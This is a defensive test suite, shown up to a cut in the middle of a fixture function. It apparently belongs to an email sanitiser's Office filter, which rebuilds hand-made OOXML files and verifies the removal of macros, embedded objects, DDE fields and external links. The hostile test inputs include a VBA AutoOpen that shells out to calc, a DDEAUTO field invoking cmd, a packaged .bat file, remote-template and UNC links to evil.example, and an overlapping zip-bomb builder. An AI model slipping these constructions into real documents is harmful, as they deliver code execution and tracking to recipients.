"""The office filter: OOXML packages built here by hand, disarmed in the real sandbox.

Every output is judged by :func:`check_output`, which shares no code with the converter: oletools
(olevba finds no VBA or XLM macros; oleobj finds no OLE object, no external relationship but
http(s)/mailto hyperlinks, no customUI callback; msodde finds no DDE), plus its own look at the zip:
no vbaProject/activeX/embeddings/macro-sheet/customUI/externalLink member, no member that is an OLE
file or a zip, no macro-enabled or active content type, every XML member well formed without a DTD.
olevba's XLM detection needs XLMMacroDeobfuscator for OOXML, so macro sheets are caught by the member
and content-type look. Every hostile input built here is first shown to fail the same check
(``test_the_check_rejects_every_hostile_input``), so the check is known to see what it looks for; a
property test corrupts a hostile package at random and requires a refusal, a hold or a clean output.
Inputs the filter must refuse (malformed, hostile XML) have to raise, so the runner holds them;
encrypted and over-cap files are held with their reason, and so are legacy files with ``legacy = "hold"``
(their conversion through LibreOffice is tests/unit/test_libreoffice.py's). Building the inputs needs no
python-docx or openpyxl: the packages (and the OLE files inside them) are written byte by byte here.
"""

from __future__ import annotations

import email
import email.policy
import hashlib
import io
import itertools
import math
import os
import re
import struct
import warnings
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Iterator, Mapping
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image
from pydantic import ValidationError
from support.inert import assert_inert, assert_office_clean
from support.sandboxes import CannedSandbox, real_sandbox, require_libreoffice

from detox.config.schema import DetoxConfig
from detox.envelope import Envelope
from detox.errors import SandboxError
from detox.filters.base import FilterContext
from detox.filters.office import OfficeFilter, OfficeOptions, output_filename
from detox.pipeline.model import Action, Part, Role, Verdict
from detox.pipeline.registry import build_pipeline
from detox.pipeline.runner import Pipeline, detect_type
from detox.sandbox.base import Sandbox
from detox.sandbox.inside.converters import office as converter

with warnings.catch_warnings():  # oletools' pyparsing grammar warns about deprecated names on import
    warnings.simplefilter("ignore", DeprecationWarning)
    from oletools import msodde, oleobj, ooxml  # type: ignore[import-untyped]
    from oletools.olevba import VBA_Parser  # type: ignore[import-untyped]

CONFIG = DetoxConfig.model_validate({"sandbox": {"provider": "bwrap"}})
ENV = Envelope("0190000000000OFC", "sender@example.jp", ("taro@city.example.lg.jp",), "192.0.2.1", "mx")
CORPUS_ENV = "DETOX_CORPUS"
DEFAULT_CORPUS = Path(__file__).resolve().parents[3] / "shared" / "corpus"
JAPANESE = "①㈱髙橋の議事録"

WML = "application/vnd.openxmlformats-officedocument.wordprocessingml."
SML = "application/vnd.openxmlformats-officedocument.spreadsheetml."
PML = "application/vnd.openxmlformats-officedocument.presentationml."
OUTPUT_TYPES = {
    WML + "document": "docx",
    WML + "template": "dotx",
    SML + "sheet": "xlsx",
    SML + "template": "xltx",
    PML + "presentation": "pptx",
    PML + "slideshow": "ppsx",
    PML + "template": "potx",
}
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MSREL = "http://schemas.microsoft.com/office/2006/relationships/"
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

# -- the sandbox --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def sandbox() -> Sandbox:
    return real_sandbox(CONFIG)


@pytest.fixture
def ctx(sandbox: Sandbox) -> FilterContext:
    return FilterContext("0190000000000OFC", "example.jp", CONFIG, sandbox=sandbox)


FILTER = OfficeFilter(OfficeOptions())
HOLD_LEGACY = OfficeFilter(OfficeOptions(legacy="hold"))


def make_part(
    data: bytes, filename: str | None, detected: str | None = None, role: Role = Role.ATTACHMENT
) -> Part:
    detected = detected or detect_type(data)
    return Part(
        part_id="2",
        role=role,
        declared_type="application/octet-stream",
        detected_type=detected,
        charset_label=None,
        untrusted_filename=filename,
        payload=data,
        sha256=hashlib.sha256(data).hexdigest(),
    )


def disarm(
    ctx: FilterContext, data: bytes, filename: str, tmp_path: Path, *, flt: OfficeFilter = FILTER
) -> tuple[Verdict, dict[str, bytes]]:
    """Run the filter on a package it must rebuild; return the verdict and the checked members."""
    part = make_part(data, filename)
    assert flt.applies_to(part), part.detected_type
    verdict = flt.process(part, ctx)
    assert verdict.action is Action.REPLACE, verdict
    assert verdict.output is not None
    assert verdict.output.data != data
    assert verdict.notes == ("office-disarmed",)
    members = check_output(
        verdict.output.data, verdict.output.content_type, tmp_path, hyperlinks=not ctx.defang_urls
    )
    assert verdict.output.filename is not None
    assert verdict.output.filename.endswith("." + OUTPUT_TYPES[verdict.output.content_type])
    return verdict, members


# -- the independent check: support.inert.assert_office_clean (shares no code with the converter) ---


def check_output(
    data: bytes, content_type: str, tmp_path: Path, *, hyperlinks: bool = False
) -> dict[str, bytes]:
    """Judge one output on its own. ``hyperlinks``: http(s)/mailto hyperlinks may remain."""
    assert content_type in OUTPUT_TYPES
    return assert_office_clean(data, content_type, tmp_path, hyperlinks=hyperlinks)


def text_of(xml: bytes) -> str:
    return "".join(el.text or "" for el in ET.fromstring(xml).iter() if el.tag.endswith("}t"))


# -- building OLE compound files and OOXML packages ---------------------------------------------

_FREE, _END, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def cfb(streams: Mapping[str, bytes]) -> bytes:
    """A minimal OLE compound file (version 3, 512-byte sectors) holding ``path -> data`` streams.

    Streams are padded to 4096 bytes so that none lives in the mini stream; sibling entries are
    chained through their right pointers (readers walk the tree; they do not check its colours).
    """
    tree: dict[str, Any] = {}
    for path, data in streams.items():
        node = tree
        *storages, leaf = path.split("/")
        for storage in storages:
            node = node.setdefault(storage, {})
        node[leaf] = data.ljust(4096, b"\0")
    entries: list[dict[str, Any]] = []

    def add(name: str, kind: int, data: bytes) -> int:
        entries.append(
            {
                "name": name,
                "type": kind,
                "data": data,
                "left": _NOSTREAM,
                "right": _NOSTREAM,
                "child": _NOSTREAM,
            }
        )
        return len(entries) - 1

    def build(index: int, node: dict[str, Any]) -> None:
        children = []
        for name, value in node.items():
            if isinstance(value, dict):
                child = add(name, 1, b"")
                build(child, value)
            else:
                child = add(name, 2, value)
            children.append(child)
        if children:
            entries[index]["child"] = children[0]
            for first, second in itertools.pairwise(children):
                entries[first]["right"] = second

    build(add("Root Entry", 5, b""), tree)
    dir_sectors = math.ceil(len(entries) * 128 / 512)
    stream_sectors = [math.ceil(len(e["data"]) / 512) if e["type"] == 2 else 0 for e in entries]
    fat_sectors = 1
    while fat_sectors * 128 < fat_sectors + dir_sectors + sum(stream_sectors):
        fat_sectors += 1
    fat = [_FATSECT] * fat_sectors
    first_dir = len(fat)
    fat += [*range(first_dir + 1, first_dir + dir_sectors), _END]
    starts = []
    for count in stream_sectors:
        if count:
            starts.append(len(fat))
            fat += [*range(len(fat) + 1, len(fat) + count), _END]
        else:
            starts.append(_END)
    fat += [_FREE] * (fat_sectors * 128 - len(fat))
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        OLE_MAGIC, b"\0" * 16, 0x3E, 3, 0xFFFE, 9, 6, b"\0" * 6,
        0, fat_sectors, first_dir, 0, 4096, _END, 0, _END, 0,
    )  # fmt: skip
    header += struct.pack("<109I", *[*range(fat_sectors), *[_FREE] * (109 - fat_sectors)])
    directory = b""
    for entry, start in zip(entries, starts, strict=True):
        name = entry["name"].encode("utf-16-le") + b"\0\0"
        size = len(entry["data"]) if entry["type"] == 2 else 0
        directory += struct.pack(
            "<64sHBBIII16sIQQIQ",
            name, len(name), entry["type"], 1, entry["left"], entry["right"], entry["child"],
            b"\0" * 16, 0, 0, 0, start, size,
        )  # fmt: skip
    out = header + struct.pack(f"<{len(fat)}I", *fat) + directory.ljust(dir_sectors * 512, b"\0")
    for entry, count in zip(entries, stream_sectors, strict=True):
        if count:
            out += entry["data"].ljust(count * 512, b"\0")
    return out


def vba_project() -> bytes:
    """A vbaProject.bin in the shape olevba recognises (PROJECT, VBA/dir, VBA/_VBA_PROJECT)."""
    return cfb(
        {
            "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\n',
            "VBA/dir": b"\x01",
            "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00",
            "VBA/Module1": b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\nShell "calc"\r\nEnd Sub\r\n',
        }
    )


def ole_object() -> bytes:
    """An embedded OLE object (a packager shell object carrying a .bat)."""
    native = b"payload.bat\0C:\\payload.bat\0" + b"@echo DETOXMARK\r\n"
    return cfb({"\x01Ole10Native": struct.pack("<I", len(native)) + native, "\x01CompObj": b"\x01\xfe"})


def png() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buf, "PNG")
    return buf.getvalue()


NS = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
    'xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main"'
)
RELS_CT = "application/vnd.openxmlformats-package.relationships+xml"


def content_types(overrides: Mapping[str, str], defaults: Mapping[str, str] | None = None) -> str:
    items = [
        (
            f'<Default Extension="rels" ContentType="{RELS_CT}"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
        )
    ]
    items += [f'<Default Extension="{ext}" ContentType="{ct}"/>' for ext, ct in (defaults or {}).items()]
    items += [f'<Override PartName="/{name}" ContentType="{ct}"/>' for name, ct in overrides.items()]
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        + "".join(items)
        + "</Types>"
    )


def rels(*items: tuple[str, str, str] | tuple[str, str, str, str]) -> str:
    """Relationships from (Id, Type, Target[, "External"]); a Type without a scheme gets REL's prefix."""
    out = []
    for rid, rtype, target, *mode in items:
        full = rtype if "://" in rtype else REL + rtype
        extra = ' TargetMode="External"' if mode else ""
        out.append(f'<Relationship Id="{rid}" Type="{full}" Target="{target}"{extra}/>')
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(out)
        + "</Relationships>"
    )


def zip_package(members: Mapping[str, str | bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data.encode("utf-8") if isinstance(data, str) else data)
    return buf.getvalue()


def _write(tmp_path: Path, name: str, data: bytes) -> str:
    path = tmp_path / name
    path.write_bytes(data)
    return str(path)


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _replace_member(data: bytes, name: str, content: bytes) -> bytes:
    members: dict[str, str | bytes] = dict(_members(data))
    members[name] = content
    return zip_package(members)


def _add_member(data: bytes, name: str, content: str | bytes) -> bytes:
    buf = io.BytesIO(data)
    with zipfile.ZipFile(buf, "a", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("placeholder")
        info.filename = name  # ZipInfo would normalise the path: write the hostile name as it is
        info.compress_type = zipfile.ZIP_DEFLATED
        archive.writestr(info, content)
    return buf.getvalue()


def _overlapping(data: bytes) -> bytes:
    """A second central-directory entry pointing at the first member's data (a 'better zip bomb')."""
    end = data.rindex(b"PK\x05\x06")
    entries, directory_size, directory_offset = struct.unpack_from("<HII", data, end + 10)
    directory = data[directory_offset : directory_offset + directory_size]
    name_length, extra_length, comment_length = struct.unpack_from("<HHH", directory, 28)
    entry = bytearray(directory[: 46 + name_length + extra_length + comment_length])
    entry[46 : 46 + name_length] = b"z" * name_length  # another name, the same data
    new_directory = directory + bytes(entry)
    tail = bytearray(data[end:])
    struct.pack_into("<HHII", tail, 8, entries + 1, entries + 1, len(new_directory), directory_offset)
    return data[:directory_offset] + new_directory + bytes(tail)


def paragraph(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def word_document(body: str) -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document {NS}><w:body>'
        f"{paragraph(JAPANESE)}{body}<w:sectPr/></w:body></w:document>"
    )


def docx(
    body: str = "",
    *,
    document_rels: tuple[tuple[str, ...], ...] = (),
    parts: Mapping[str, str | bytes] | None = None,
    overrides: Mapping[str, str] | None = None,
    defaults: Mapping[str, str] | None = None,
    root_rels: tuple[tuple[str, ...], ...] = (),
    main_type: str = WML + "document.main+xml",
) -> bytes:
    members: dict[str, str | bytes] = {
        "[Content_Types].xml": content_types({"word/document.xml": main_type, **(overrides or {})}, defaults),
        "_rels/.rels": rels(("rId1", "officeDocument", "word/document.xml"), *root_rels),  # type: ignore[arg-type]
        "word/document.xml": word_document(body),
    }
    if document_rels:
        members["word/_rels/document.xml.rels"] = rels(*document_rels)  # type: ignore[arg-type]
    members.update(parts or {})
    return zip_package(members)


def field(instruction_runs: list[str], result: str) -> str:
    """A complex field; each instruction piece in its own run (how Word splits them, and attackers)."""
    runs = ['<w:r><w:fldChar w:fldCharType="begin"/></w:r>']
    runs += [
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in instruction_runs
    ]
    runs.append('<w:r><w:fldChar w:fldCharType="separate"/></w:r>')
    runs.append(f"<w:r><w:t>{result}</w:t></w:r>")
    runs.append('<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    return "".join(runs)


# -- OOXML: Word --------------------------------------------------------------------------------


def test_plain_docx_is_rebuilt_with_its_text(ctx: FilterContext, tmp_path: Path) -> None:
    data = docx(paragraph("二段落目"))
    verdict, members = disarm(ctx, data, "議事録.docx", tmp_path)
    assert verdict.output is not None
    assert verdict.output.content_type == WML + "document"
    assert verdict.output.filename == "議事録.docx"
    assert dict(verdict.removed) == {}
    assert JAPANESE in text_of(members["word/document.xml"])
    assert "二段落目" in text_of(members["word/document.xml"])


def test_docm_loses_its_vba_project_and_becomes_docx(ctx: FilterContext, tmp_path: Path) -> None:
    data = docm_with_vba()
    vba = VBA_Parser("in.docm", data=data)
    assert vba.detect_vba_macros()  # the check sees macros where there are some
    vba.close()
    verdict, members = disarm(ctx, data, "報告.docm", tmp_path)
    assert verdict.output is not None
    assert verdict.output.filename == "報告.docx"
    assert verdict.output.content_type == WML + "document"
    assert dict(verdict.removed) == {"vba-project": 1, "custom-ui": 1}
    assert set(members) == {"[Content_Types].xml", "_rels/.rels", "word/document.xml"}
    types = members["[Content_Types].xml"].decode()
    assert WML + "document.main+xml" in types
    assert "bin" not in types
    assert "マクロ付き" in text_of(members["word/document.xml"])


def test_attached_template_injection_is_removed(ctx: FilterContext, tmp_path: Path) -> None:
    data = docx_with_template_injection()
    kinds = [
        kind
        for kind, _ in oleobj.find_external_relationships(ooxml.XmlParser(_write(tmp_path, "in.docx", data)))
    ]
    assert kinds == ["attachedTemplate"]
    verdict, members = disarm(ctx, data, "案内.docx", tmp_path)
    assert dict(verdict.removed) == {"external-link": 1, "mail-merge": 1}
    assert "word/_rels/settings.xml.rels" not in members
    settings_out = members["word/settings.xml"].decode()
    assert "attachedTemplate" not in settings_out and "mailMerge" not in settings_out
    assert "updateFields" not in settings_out


def test_dde_and_fetching_fields_lose_their_code_and_keep_their_result(
    ctx: FilterContext, tmp_path: Path
) -> None:
    data = docx_with_fields()
    assert "DDE" in msodde.process_file(_write(tmp_path, "in.docx", data), msodde.FIELD_FILTER_DDE).upper()
    verdict, members = disarm(ctx, data, "dde.docx", tmp_path)
    assert dict(verdict.removed) == {"dde": 3, "external-link": 1, "hyperlink": 1, "macro-binding": 1}
    document = members["word/document.xml"].decode()
    instructions = re.findall(r"<w:instrText[^>]*>([^<]*)<", document)
    assert [i.strip() for i in instructions] == [r'HYPERLINK \l "section1"', "PAGE", "FORMTEXT"]
    assert "fldSimple" not in document and "entryMacro" not in document
    shown = text_of(members["word/document.xml"])
    for result in ("表示一", "表示二", "表示三", "表示四", "表示五", "表示六", "入力欄", JAPANESE):
        assert result in shown


def test_ole_object_becomes_its_preview_and_activex_goes(ctx: FilterContext, tmp_path: Path) -> None:
    data = docx_with_ole_and_activex()
    found = [o for o in oleobj.find_ole("in.docx", data) if o is not None]
    assert found  # the check sees embedded OLE files where there are some
    for ole in found:
        ole.close()
    verdict, members = disarm(ctx, data, "object.docx", tmp_path)
    assert dict(verdict.removed) == {"ole-embedding": 1, "activex": 1}
    document = members["word/document.xml"].decode()
    assert "w:object" not in document and "OLEObject" not in document and "w:control" not in document
    assert document.count("<w:pict>") == 2
    assert 'o:ole=""' not in document
    assert document.count('r:id="rId2"') == 2  # the preview pictures stay
    assert members["word/media/image1.png"] == png()
    assert set(members) == {
        "[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/_rels/document.xml.rels",
        "word/media/image1.png",
    }  # fmt: skip


def test_svg_picture_goes_and_its_png_fallback_stays(ctx: FilterContext, tmp_path: Path) -> None:
    data = docx_with_svg()
    verdict, members = disarm(ctx, data, "svg.docx", tmp_path)
    assert dict(verdict.removed) == {"svg-image": 1}
    document = members["word/document.xml"].decode()
    assert "svgBlip" not in document and "extLst" not in document and 'r:embed="rId2"' in document
    assert "word/media/image2.svg" not in members


def test_a_web_link_named_by_a_template_reference_goes(sandbox: Sandbox, tmp_path: Path) -> None:
    """A relationship typed "hyperlink" but used by w:attachedTemplate is not a hyperlink to keep."""
    exempt = FilterContext("Q", "partner.example.jp", CONFIG, defang_urls=False, sandbox=sandbox)
    data = docx(
        document_rels=(("rId1", "settings", "settings.xml"),),
        parts={
            "word/settings.xml": f'<w:settings {NS}><w:attachedTemplate r:id="rId1"/></w:settings>',
            "word/_rels/settings.xml.rels": rels(
                ("rId1", "hyperlink", "http://evil.example/t.dotm", "External")
            ),
        },
        overrides={"word/settings.xml": WML + "settings+xml"},
    )
    verdict, members = disarm(exempt, data, "案内.docx", tmp_path)
    assert dict(verdict.removed) == {"external-link": 1}
    assert "attachedTemplate" not in members["word/settings.xml"].decode()


def test_an_ole_file_disguised_as_a_picture_goes_and_unreferenced_leftovers_are_not_counted(
    ctx: FilterContext, tmp_path: Path
) -> None:
    data = docx(
        '<w:p><w:r><w:drawing><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<a:blip r:embed="rId2"/></a:graphicData></a:graphic></w:drawing></w:r></w:p>',
        document_rels=(("rId2", "image", "media/image1.png"),),
        parts={"word/media/image1.png": vba_project(), "[trash]/0001.dat": b"old bytes"},
        defaults={"png": "image/png"},
    )
    verdict, members = disarm(ctx, data, "画像.docx", tmp_path)
    assert dict(verdict.removed) == {"ole-embedding": 1}
    assert set(members) == {"[Content_Types].xml", "_rels/.rels", "word/document.xml"}


def test_strict_ooxml_namespaces_are_handled_too(ctx: FilterContext, tmp_path: Path) -> None:
    strict = "http://purl.oclc.org/ooxml/wordprocessingml/main"
    document = (
        f'<w:document xmlns:w="{strict}"><w:body>{paragraph(JAPANESE)}'
        '<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot; ">'
        "<w:r><w:t>結果</w:t></w:r></w:fldSimple></w:p>"
        "</w:body></w:document>"
    )
    data = _replace_member(docx(), "word/document.xml", document.encode())
    verdict, members = disarm(ctx, data, "strict.docx", tmp_path)
    assert dict(verdict.removed) == {"dde": 1}
    assert "fldSimple" not in members["word/document.xml"].decode()
    assert "結果" in text_of(members["word/document.xml"])


def test_utf16_document_is_read_and_written_as_utf8(ctx: FilterContext, tmp_path: Path) -> None:
    document = word_document(paragraph("UTF-16 の文書")).replace('encoding="UTF-8"', 'encoding="UTF-16"')
    data = docx()
    data = _replace_member(data, "word/document.xml", document.encode("utf-16"))
    _, members = disarm(ctx, data, "utf16.docx", tmp_path)
    assert members["word/document.xml"].startswith(b"<?xml version='1.0' encoding='UTF-8'")
    assert "UTF-16 の文書" in text_of(members["word/document.xml"])


# -- OOXML: Excel -------------------------------------------------------------------------------


def xlsx(
    sheets: str,
    defined_names: str = "",
    *,
    workbook_rels: tuple[tuple[str, ...], ...],
    parts: Mapping[str, str | bytes],
    overrides: Mapping[str, str],
    main_type: str = SML + "sheet.main+xml",
    extra: str = "",
) -> bytes:
    names = "<definedNames>" + defined_names + "</definedNames>" if defined_names else ""
    workbook = (
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<bookViews><workbookView activeTab="1"/></bookViews>'
        f"<sheets>{sheets}</sheets>{extra}{names}</workbook>"
    )
    members: dict[str, str | bytes] = {
        "[Content_Types].xml": content_types({"xl/workbook.xml": main_type, **overrides}),
        "_rels/.rels": rels(("rId1", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": workbook,
        "xl/_rels/workbook.xml.rels": rels(*workbook_rels),  # type: ignore[arg-type]
        **parts,
    }
    return zip_package(members)


def worksheet(cells: str) -> str:
    return (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheetData>{cells}</sheetData></worksheet>'
    )


def test_xlsm_loses_its_xlm_macro_sheet_and_auto_open(ctx: FilterContext, tmp_path: Path) -> None:
    data = xlsm_with_xlm()
    verdict, members = disarm(ctx, data, "集計.xlsm", tmp_path)
    assert verdict.output is not None
    assert verdict.output.filename == "集計.xlsx"
    assert verdict.output.content_type == SML + "sheet"
    assert dict(verdict.removed) == {"xlm-macrosheet": 1, "auto-macro": 1, "very-hidden-sheet": 1}
    ns = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    workbook = ET.fromstring(members["xl/workbook.xml"])
    sheets = [(s.get("name"), s.get("state")) for s in workbook.iter(ns + "sheet")]
    assert sheets == [("データ", None), ("隠し", "hidden")]
    names = {n.get("name"): (n.get("localSheetId"), n.text) for n in workbook.iter(ns + "definedName")}
    assert names == {"_xlnm.Print_Area": ("0", "'データ'!$A$1:$B$2"), "Total": (None, "'データ'!$A$1")}
    assert workbook.find(f"{ns}bookViews/{ns}workbookView").get("activeTab") == "0"  # type: ignore[union-attr]
    assert JAPANESE in text_of(members["xl/worksheets/sheet1.xml"])


def test_xlsx_dde_link_and_its_formula_go_and_the_value_stays(ctx: FilterContext, tmp_path: Path) -> None:
    data = xlsx_with_dde()
    assert "calc" in msodde.process_file(_write(tmp_path, "in.xlsx", data))
    verdict, members = disarm(ctx, data, "dde.xlsx", tmp_path)
    assert dict(verdict.removed) == {"dde": 2}  # the link, and the DDE call written as a formula
    assert "externalReferences" not in members["xl/workbook.xml"].decode()
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    assert "[1]!" not in sheet and "cmd|" not in sheet and "#REF!" in sheet
    assert "<f>SUM(1,2)</f>" in sheet and '<f>"a|b"&amp;"[1]"</f>' in sheet  # string literals are data


# -- OOXML: PowerPoint --------------------------------------------------------------------------


def pptx(slide: str, slide_rels: tuple[tuple[str, ...], ...], parts: Mapping[str, str | bytes]) -> bytes:
    presentation = (
        f'<p:presentation {NS}><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst>'
        '<p:sldSz cx="9144000" cy="6858000"/></p:presentation>'
    )
    members: dict[str, str | bytes] = {
        "[Content_Types].xml": content_types(
            {
                "ppt/presentation.xml": PML + "presentation.main+xml",
                "ppt/slides/slide1.xml": PML + "slide+xml",
            },
            {"png": "image/png", "bin": "application/vnd.openxmlformats-officedocument.oleObject"},
        ),
        "_rels/.rels": rels(("rId1", "officeDocument", "ppt/presentation.xml")),
        "ppt/presentation.xml": presentation,
        "ppt/_rels/presentation.xml.rels": rels(("rId1", "slide", "slides/slide1.xml")),
        "ppt/slides/slide1.xml": f"<p:sld {NS}><p:cSld><p:spTree>{slide}</p:spTree></p:cSld></p:sld>",
        "ppt/slides/_rels/slide1.xml.rels": rels(*slide_rels),  # type: ignore[arg-type]
        **parts,
    }
    return zip_package(members)


def shape(shape_id: int, text: str, link: str = "") -> str:
    return (
        f'<p:sp><p:nvSpPr><p:cNvPr id="{shape_id}" name="Shape {shape_id}">{link}</p:cNvPr>'
        "<p:cNvSpPr/><p:nvPr/>"
        f"</p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp>"
    )


SLIDE_WITH_LINKS = (
    shape(2, JAPANESE, '<a:hlinkClick r:id="rId2"/>')
    + shape(3, "実行", '<a:hlinkClick r:id="rId3" action="ppaction://program"/>')
    + shape(4, "共有", '<a:hlinkMouseOver r:id="rId5"/>')
    + '<p:pic><p:nvPicPr><p:cNvPr id="5" name="Tracker"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>'
    '<p:blipFill><a:blip r:embed="rId6" r:link="rId4"/></p:blipFill><p:spPr/></p:pic>'
)
SLIDE_LINK_RELS = (
    ("rId2", "hyperlink", "https://www.city.example.lg.jp/", "External"),
    ("rId3", "hyperlink", "file:///C:/Windows/System32/calc.exe", "External"),
    ("rId4", "image", "http://evil.example/track.png", "External"),
    ("rId5", "hyperlink", "\\\\evil.example\\share\\x.exe", "External"),
    ("rId6", "image", "../media/image1.png"),
)


def test_pptx_external_image_and_dangerous_links_go_web_links_unlinked(
    ctx: FilterContext, tmp_path: Path
) -> None:
    data = pptx_with_links()
    verdict, members = disarm(ctx, data, "説明.pptx", tmp_path)
    assert verdict.output is not None
    assert verdict.output.content_type == PML + "presentation"
    assert dict(verdict.removed) == {"external-link": 3, "hyperlink": 1, "action": 1}
    slide = members["ppt/slides/slide1.xml"].decode()
    assert "r:link" not in slide and "ppaction" not in slide and 'r:embed="rId6"' in slide
    assert "TargetMode" not in members["ppt/slides/_rels/slide1.xml.rels"].decode()
    assert JAPANESE in text_of(members["ppt/slides/slide1.xml"])


def test_web_hyperlinks_stay_clickable_for_exempt_senders(sandbox: Sandbox, tmp_path: Path) -> None:
    exempt = FilterContext("Q", "partner.example.jp", CONFIG, defang_urls=False, sandbox=sandbox)
    data = pptx_with_links()
    verdict, members = disarm(exempt, data, "説明.pptx", tmp_path)
    assert dict(verdict.removed) == {"external-link": 3, "action": 1}
    slide_rels = members["ppt/slides/_rels/slide1.xml.rels"].decode()
    assert 'Target="https://www.city.example.lg.jp/" TargetMode="External"' in slide_rels
    assert slide_rels.count("TargetMode") == 1
    # The filter option overrides the body's policy.
    unlink = OfficeFilter(OfficeOptions(hyperlinks="unlink"))
    verdict, _ = disarm(exempt, data, "説明.pptx", tmp_path, flt=unlink)
    assert verdict.removed["hyperlink"] == 1


def test_pptx_ole_object_becomes_its_fallback_picture(ctx: FilterContext, tmp_path: Path) -> None:
    data = pptx_with_ole()
    verdict, members = disarm(ctx, data, "資料.pptx", tmp_path)
    assert dict(verdict.removed) == {"ole-embedding": 1}
    slide = ET.fromstring(members["ppt/slides/slide1.xml"])
    p = "{http://schemas.openxmlformats.org/presentationml/2006/main}"
    a = "{http://schemas.openxmlformats.org/drawingml/2006/main}"
    assert slide.find(f".//{p}graphicFrame") is None and slide.find(f".//{p}oleObj") is None
    pic = slide.find(f"{p}cSld/{p}spTree/{p}pic")
    assert pic is not None
    assert pic.find(f".//{p}cNvPr").get("id") == "4"  # type: ignore[union-attr]
    offset = pic.find(f"{p}spPr/{a}xfrm/{a}off")
    assert offset is not None and (offset.get("x"), offset.get("y")) == ("100", "200")
    assert "ppt/media/image1.png" in members


# -- the hostile inputs, and the proof that the check sees what is in them --------------------


def docm_with_vba() -> bytes:
    """A docm with a VBA project (+ vbaData) and a ribbon customization with an onLoad callback."""
    return docx(
        paragraph("マクロ付き"),
        main_type="application/vnd.ms-word.document.macroEnabled.main+xml",
        document_rels=(("rId1", MSREL + "vbaProject", "vbaProject.bin"),),
        parts={
            "word/vbaProject.bin": vba_project(),
            "word/_rels/vbaProject.bin.rels": rels(("rId1", MSREL + "wordVbaData", "vbaData.xml")),
            "word/vbaData.xml": '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
            "customUI/customUI14.xml": (
                '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" '
                'onLoad="Module1.Boom"/>'
            ),
        },
        defaults={"bin": "application/vnd.ms-office.vbaProject"},
        overrides={"word/vbaData.xml": "application/vnd.ms-word.vbaData+xml"},
        root_rels=(
            (
                "rId2",
                "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
                "customUI/customUI14.xml",
            ),
        ),
    )


def docx_with_template_injection() -> bytes:
    """A docx whose settings attach a remote template (template injection) and a mail merge."""
    settings = (
        f'<w:settings {NS}><w:attachedTemplate r:id="rId1"/><w:updateFields w:val="true"/>'
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
        '<w:query w:val="SELECT * FROM x"/></w:mailMerge>'
        "</w:settings>"
    )
    return docx(
        document_rels=(("rId1", "settings", "settings.xml"),),
        parts={
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": rels(
                ("rId1", "attachedTemplate", "http://evil.example/t.dotm", "External")
            ),
        },
        overrides={"word/settings.xml": WML + "settings+xml"},
    )


def docx_with_fields() -> bytes:
    """DDE fields (split, simple, spelled by QUOTE), INCLUDEPICTURE, HYPERLINK, PAGE, a form field macro."""
    cmd = r"c:\\windows\\system32\\cmd.exe"
    body = "".join(
        [
            # DDEAUTO with its keyword split over two runs.
